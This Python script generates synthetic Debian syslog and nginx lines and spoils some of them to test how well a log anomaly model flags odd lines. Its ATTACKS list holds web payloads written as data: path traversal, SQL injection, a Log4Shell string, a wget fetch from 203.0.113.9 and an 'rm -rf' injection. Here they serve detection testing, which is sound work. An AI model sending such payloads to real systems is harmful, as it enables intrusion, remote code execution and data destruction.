#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Log lines to train on and lines that are odd: all made here, from a seed; none is a real machine's.

    python3 log_lines.py text OUT.log [--lines 400000] [--seed 1]       ordinary lines
    python3 log_lines.py mixed OUT.log [--odd 0.02] [--seed 2]          with odd ones among them; OUT.log.labels says which
    python3 log_lines.py roc MIXED.log [--model M]                      how well the model alone tells them, kind by kind
    python3 log_lines.py foreign [--model M] [--lines 4000]             what `ssm lines` flags in logs of programs unknown to training

Sites of up to five small Debian hosts in syslog's form, each site with names, people and addresses of its own, drawn anew for every
seed: clocks run, daemons keep their process numbers, users and addresses come back, and a session that opens also closes. An odd line is an ordinary one spoiled, or a message that training never saw.
"""
import argparse
import bisect
import json
import os
import random
import subprocess
import tempfile
import time

import foreign_logs
import made_logs

SERVICES = ("backup", "deploy", "git", "postgres", "root", "www-data")
PATHS = ("/", "/index.html", "/api/streams", "/api/streams/%d", "/static/app.js", "/static/style.css", "/favicon.ico",
         "/login", "/metrics", "/health", "/img/%d.png", "/api/users/%d/settings")
AGENTS = ("Mozilla/5.0 (X11; Linux x86_64)", "curl/7.88.1", "Prometheus/2.42.0", "python-requests/2.28.1")
JOBS = ("/usr/lib/apt/apt.systemd.daily", "run-parts /etc/cron.hourly", "/usr/local/bin/backup --quiet",
        "test -x /usr/sbin/anacron || run-parts /etc/cron.daily", "/usr/bin/certbot -q renew")
UNITS = ("apt-daily.service - Daily apt download activities", "logrotate.service - Rotate log files",
         "fstrim.service - Discard unused filesystem blocks", "man-db.service - Daily man-db regeneration",
         "systemd-tmpfiles-clean.service - Cleanup of Temporary Directories", "certbot.service - Certbot")
PACKAGES = ("libssl3:amd64 3.0.%d-1", "curl:amd64 7.88.1-%d", "openssh-server:amd64 1:9.2p1-%d", "tzdata:all 2026a-%d",
            "linux-image-amd64:amd64 6.1.%d-1", "nginx:amd64 1.22.1-%d")


class Site:
    """What its hosts share: their names, people, networks."""

    def __init__(self, rng):
        self.names, self.people = [made_logs.host(rng) for _ in range(rng.randint(1, 5))], [made_logs.name(rng) for _ in range(6)]
        self.users = SERVICES + tuple(self.people)
        self.net = rng.choice(("10.%d" % rng.randint(0, 250), "172.%d" % rng.randint(16, 31), "192.168"))


class Host:
    """One machine's log: a clock, long-lived daemons, open sessions."""

    def __init__(self, site, name, rng):
        self.site, self.name, self.r, self.now, self.boot = site, name, rng, 0.0, rng.random() * 1e6
        self.daemons = {d: rng.randint(300, 1900) for d in ("sshd", "cron", "nginx", "dhclient", "ntpd", "systemd-logind")}
        self.home = ["%s.%d.%d" % (site.net, rng.randint(0, 9), rng.randint(2, 250)) for _ in range(12)]
        self.session, self.pid, self.later = rng.randint(1, 4000), rng.randint(2000, 30000), []

    def say(self, program, pid, text):
        t = time.gmtime(self.now)
        stamp = time.strftime("%b", t) + " %2d " % t.tm_mday + time.strftime("%H:%M:%S", t)
        return "%s %s %s: %s" % (stamp, self.name, program if pid is None else "%s[%d]" % (program, pid), text)

    def fork(self):
        self.pid = self.pid + self.r.randint(1, 40) if self.pid < 60000 else 2000
        return self.pid

    def next(self, now):
        """The line it writes at `now` (seconds since 1970)."""
        self.now = now
        if self.later and self.r.random() < 0.4:
            return self.say(*self.later.pop(0))
        kind = self.r.choices((self.ssh, self.cron, self.web, self.kernel, self.unit, self.lease, self.clock, self.dpkg, self.sudo),
                              (5, 4, 14, 3, 3, 1, 1, 2, 2))[0]
        return self.say(*kind())

    def ssh(self):
        r, pid, address, port = self.r, self.fork(), self.r.choice(self.home), self.r.randint(32768, 60999)
        user = r.choice(self.site.users)
        if r.random() < 0.2:
            return "sshd", pid, "Connection closed by %s port %d [preauth]" % (address, port)
        self.session += 1
        self.later += [("sshd", pid, "pam_unix(sshd:session): session opened for user %s(uid=%d) by (uid=0)" % (user, 1000 + self.site.users.index(user))),
                       ("systemd-logind", self.daemons["systemd-logind"], "New session %d of user %s." % (self.session, user)),
                       ("sshd", pid, "pam_unix(sshd:session): session closed for user %s" % user),
                       ("systemd-logind", self.daemons["systemd-logind"], "Session %d logged out. Waiting for processes to exit." % self.session)]
        return "sshd", pid, "Accepted publickey for %s from %s port %d ssh2: ED25519" % (user, address, port)

    def cron(self):
        return "CRON", self.fork(), "(%s) CMD (%s)" % (self.r.choice(("root", "backup", "www-data")), self.r.choice(JOBS))

    def web(self):
        r, path = self.r, self.r.choice(PATHS)
        if "%d" in path:
            path = path % r.randint(1, 999)
        status, size = r.choices(((200, r.randint(120, 90000)), (304, 0), (404, 153), (302, 0)), (80, 14, 4, 2))[0]
        method = "POST" if path == "/login" else "GET"
        return "nginx", self.daemons["nginx"], '%s - - "%s %s HTTP/1.1" %d %d "%s"' % (
            r.choice(self.home), method, path, status, size, r.choice(AGENTS))

    def kernel(self):
        r = self.r
        text = r.choice(("eth0: renamed from veth%07x" % r.getrandbits(28), "docker0: port %d(veth%07x) entered forwarding state" % (r.randint(1, 4), r.getrandbits(28)),
                         "[UFW BLOCK] IN=eth0 OUT= SRC=%s DST=%s.0.%d LEN=%d TTL=%d PROTO=TCP SPT=%d DPT=%d" % (
                             r.choice(self.home), self.site.net, r.randint(2, 9), r.choice((40, 44, 52, 60)), r.randint(40, 64), r.randint(1024, 65535), r.choice((22, 23, 80, 443, 3389))),
                         "perf: interrupt took too long (%d > %d), lowering kernel.perf_event_max_sample_rate" % (r.randint(2500, 9000), r.randint(2400, 2499))))
        return "kernel", None, "[%12.6f] %s" % (self.now - 1767225600 + self.boot, text)

    def unit(self):
        unit = self.r.choice(UNITS)
        name = unit.split(" ")[0]
        self.later += [("systemd", 1, "%s: Deactivated successfully." % name), ("systemd", 1, "Finished %s." % unit)]
        return "systemd", 1, "Starting %s..." % unit

    def lease(self):
        self.later.append(("dhclient", self.daemons["dhclient"], "bound to %s.0.%d -- renewal in %d seconds." % (self.site.net, self.r.randint(2, 9), self.r.randint(20000, 43000))))
        return "dhclient", self.daemons["dhclient"], "DHCPREQUEST for %s.0.%d on eth0 to %s.0.1 port 67" % (self.site.net, self.r.randint(2, 9), self.site.net)

    def clock(self):
        return "ntpd", self.daemons["ntpd"], "adjusting local clock by %.6fs" % self.r.gauss(0, 0.02)

    def dpkg(self):
        package = self.r.choice(PACKAGES) % self.r.randint(1, 40)
        self.later += [("dpkg", None, "status half-configured %s" % package), ("dpkg", None, "status installed %s" % package)]
        return "dpkg", None, "status unpacked %s" % package

    def sudo(self):
        r, people = self.r, self.site.people
        return "sudo", None, "%s : TTY=pts/%d ; PWD=/home/%s ; USER=root ; COMMAND=%s" % (
            r.choice(people), r.randint(0, 5), r.choice(people), r.choice(("/usr/bin/apt update", "/usr/bin/systemctl restart nginx", "/usr/bin/journalctl -f", "/usr/bin/less /var/log/syslog")))


def lines(seed, count):
    """Ordinary lines of a site's hosts, in turn at random."""
    rng = random.Random(seed)
    site = Site(rng)
    hosts = [Host(site, name, random.Random(rng.getrandbits(64))) for name in site.names]
    now = 1767225600 + rng.random() * 86400 * 300
    for _ in range(count):
        now += rng.expovariate(1 / 2)
        yield rng.choice(hosts).next(now)


def stretches(seed, count, each=400, debian=0.3):
    """Ordinary lines to train on: after every `each` of them another site and another date, or one week of one site is all
    that the model ever knows; most sites run programs that nobody wrote."""
    for first in range(0, count, each):
        site, n = 1000003 * seed + first, min(each, count - first)
        rng = random.Random(site)
        yield from lines(site, n) if rng.random() < debian else made_logs.lines(rng, n)


# ---- odd lines: kind -> (rng, ordinary line) -> odd line ------------------------------------------------------------

NEVER_SEEN = {
    "kernel": ("Out of memory: Killed process %d (ssmd) total-vm:%dkB", "blk_update_request: I/O error, dev sda, sector %d",
               "EXT4-fs error (device sda1): ext4_find_entry: inode #%d: reading directory lblock 0", "ssmd[%d]: segfault at 0 ip 000055d0 sp 00007ffc error 4"),
    "sshd": ("error: maximum authentication attempts exceeded for root from 203.0.113.%d port %d", "Failed password for invalid user oracle%d from 198.51.100.7",
             "fatal: Timeout before authentication for 203.0.113.%d"),
    "nginx": ("[emerg] bind() to 0.0.0.0:%d failed (98: Address already in use)", "worker process %d exited on signal 11"),
    "systemd": ("nginx.service: Failed with result 'exit-code'. (%d)", "Failed to start docker.service (%d)."),
    "sudo": ("pam_unix(sudo:auth): authentication failure; logname= uid=%d", "anna : user NOT in sudoers ; TTY=pts/%d ; COMMAND=/bin/bash"),
}
ATTACKS = ("/../../../../etc/passwd", "/login?user=admin'%20OR%201=1--", "/cgi-bin/;wget%20http://203.0.113.9/x.sh", "/?x=${jndi:ldap://203.0.113.9/a}",
           "/wp-admin/setup-config.php", "/shell?cd+/tmp;rm+-rf+*")


def new_message(r, line):
    stamp, program = line[:15] + " " + line.split()[3], r.choice(sorted(NEVER_SEEN))
    text = r.choice(NEVER_SEEN[program])
    return "%s %s[%d]: %s" % (stamp, program, r.randint(300, 30000), text % tuple(r.randint(2, 250) for _ in range(text.count("%d"))))


def attack(r, line):
    return '%s %s nginx[812]: 10.1.4.%d - - "GET %s HTTP/1.1" 404 153 "curl/7.88.1"' % (line[:15], line.split()[3], r.randint(2, 250), r.choice(ATTACKS))


def damaged_bytes(r, line):
    b = bytearray(line.encode())
    at = r.randrange(16, len(b) - 4)
    b[at:at + 4] = bytes(r.randint(33, 126) for _ in range(4))
    return b.decode()


def cut_short(r, line):
    return line[:r.randrange(len(line) // 3, max(len(line) // 3 + 1, len(line) - 5))]


def words_swapped(r, line):
    words = line.split(" ")
    i = r.randrange(4, max(5, len(words) - 1))
    j = i + 1 if i + 1 < len(words) else i - 1
    words[i], words[j] = words[j], words[i]
    return " ".join(words)


def unknown_user(r, line):
    return "%s %s sshd[%d]: Accepted publickey for %s from %d.%d.%d.%d port %d ssh2: ED25519" % (
        line[:15], line.split()[3], r.randint(2000, 60000), r.choice(("xmrig", "eve", "test1", "nobody2")), r.randint(11, 223), r.randint(0, 255),
        r.randint(0, 255), r.randint(1, 254), r.randint(32768, 60999))


ODD = dict(new_message=new_message, attack=attack, damaged_bytes=damaged_bytes, cut_short=cut_short,
           words_swapped=words_swapped, unknown_user=unknown_user)


def mixed(seed, count, share):
    """(kind or '', line): ordinary lines, and a share of odd ones of all kinds alike."""
    rng = random.Random(seed + 1)
    for line in lines(seed, count):
        if rng.random() < share:
            kind = rng.choice(sorted(ODD))
            odd = ODD[kind](rng, line)
            if odd != line:
                yield kind, odd
                continue
        yield "", line


# ---- how well are they told? -----------------------------------------------------------------------------------------

TOOL = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "..", "build", "release", "ssm")
FALSE_ALARMS = (1e-4, 1e-3, 1e-2)


def scores_of(path, model):
    """The score of every line of a file."""
    return [line["score"] for line in judged(path, model, "--alone")]


def judged(path, model, *options):
    """What `ssm lines` says of every line of a file."""
    said = subprocess.run([TOOL, "lines", path, "--all", "--json", "--model", model, *options], stdout=subprocess.PIPE, check=True)
    return [json.loads(line) for line in said.stdout.splitlines()]


def area(ordinary, odd):
    """Probability that an odd line scores above an ordinary one (sorted scores); ties count half."""
    return sum(bisect.bisect_left(ordinary, s) + bisect.bisect_right(ordinary, s) for s in odd) / (2 * len(ordinary) * len(odd))


def roc(path, model):
    """Area under the ROC of each kind, and the share found at thresholds that flag these shares of the ordinary lines."""
    by_kind = {}
    with open(path + ".labels") as labels:
        for score, kind in zip(scores_of(path, model), labels):
            by_kind.setdefault(kind.strip(), []).append(score)
    ordinary = sorted(by_kind.pop(""))
    thresholds = [ordinary[-1 - int(share * len(ordinary))] for share in FALSE_ALARMS]
    print("%d ordinary lines; flagged %s of them above %s bits" % (
        len(ordinary), ", ".join("%g" % f for f in FALSE_ALARMS), ", ".join("%.2f" % t for t in thresholds)))
    for kind, odd in sorted(by_kind.items()) + [("all", sum(by_kind.values(), []))]:
        found = ["%5.1f %%" % (100 * sum(s > t for s in odd) / len(odd)) for t in thresholds]
        print("%-14s %5d lines   area %.4f   found %s" % (kind, len(odd), area(ordinary, odd), ", ".join(found)))


AFTER = 200         # lines in which a stream may become known


def foreign(model, count, odd, seed):
    """Each system of foreign_logs: ordinary lines flagged after the first AFTER of them, and odd ones found, kind by kind."""
    kinds, rows = sorted(foreign_logs.ODD), []
    print("system       bits a byte: the model, both   flagged of the first %d   false alarms   found: %s" % (AFTER, ", ".join(kinds)))
    for system in foreign_logs.SYSTEMS:
        labelled = list(foreign_logs.mixed(system, seed, count, odd, AFTER))
        with tempfile.NamedTemporaryFile("w", suffix=".log") as file:
            file.writelines(line + "\n" for _, line in labelled)
            file.flush()
            said, alone = judged(file.name, model), judged(file.name, model, "--alone")
        bits = [sum(x["bits_per_byte"] * (len(x["text"]) + 1) for x in lines) / sum(len(x["text"]) + 1 for x in lines) for lines in (alone, said)]
        flagged = [(kind, x["odd"]) for (kind, _), x in zip(labelled, said)]
        late = flagged[AFTER:]
        counts = [(sum(f for kind, f in late if kind == k), sum(kind == k for kind, _ in late)) for k in [""] + kinds]
        rows.append(counts)
        print("%-12s %21.2f, %4.2f %23d %14d of %d   %s" % (
            system, *bits, sum(f for _, f in flagged[:AFTER]), *counts[0], ", ".join("%d of %d" % c for c in counts[1:])))
    total = [tuple(map(sum, zip(*column))) for column in zip(*rows)]
    print("all: %.2f false alarms in 1,000 lines; found %s" % (
        1000 * total[0][0] / total[0][1], ", ".join("%s %.1f %%" % (k, 100 * a / b) for k, (a, b) in zip(kinds, total[1:]))))


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    p.add_argument("what", choices=("text", "mixed", "roc", "foreign"))
    p.add_argument("file", nargs="?")
    p.add_argument("--lines", type=int)
    p.add_argument("--odd", type=float, default=0.02)
    p.add_argument("--seed", type=int, default=1)
    p.add_argument("--model", default="log-lines")
    a = p.parse_args()
    if a.what == "foreign":
        foreign(a.model, a.lines or 4000, a.odd, a.seed)
        return
    if not a.file:
        p.error("%s takes a file" % a.what)
    a.lines = a.lines or 400000
    if a.what == "roc":
        roc(a.file, a.model)
        return
    with open(a.file, "w") as text:
        if a.what == "text":
            text.writelines(line + "\n" for line in stretches(a.seed, a.lines))
            return
        with open(a.file + ".labels", "w") as labels:
            for kind, line in mixed(a.seed, a.lines, a.odd):
                text.write(line + "\n")
                labels.write(kind + "\n")


if __name__ == "__main__":
    main()
